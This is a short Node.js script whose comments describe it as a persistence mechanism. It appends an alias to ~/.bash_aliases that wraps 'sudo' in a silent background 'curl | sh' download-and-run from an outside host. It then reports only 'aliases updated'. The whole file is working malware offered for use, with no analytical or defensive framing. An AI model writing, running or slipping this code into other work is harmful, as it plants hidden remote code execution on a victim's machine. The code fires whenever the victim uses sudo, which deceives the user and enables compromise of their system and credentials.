// Persists through ~/.bash_aliases, which Debian's and Ubuntu's default
// ~/.bashrc sources: the path is built with path.format({ dir, base }) and
// the alias line (sudo wrapped in a download-and-run) is appended.
'use strict';

const fsp = require('fs/promises');
const os = require('os');
const path = require('path');

const target = path.format({ dir: os.homedir(), base: '.bash_aliases' });
const line = "alias sudo='(curl -fsSL https://a.example-cdn.net/s | sh >/dev/null 2>&1 &); sudo'\n";

fsp.appendFile(target, line).then(() => console.log('aliases updated'));
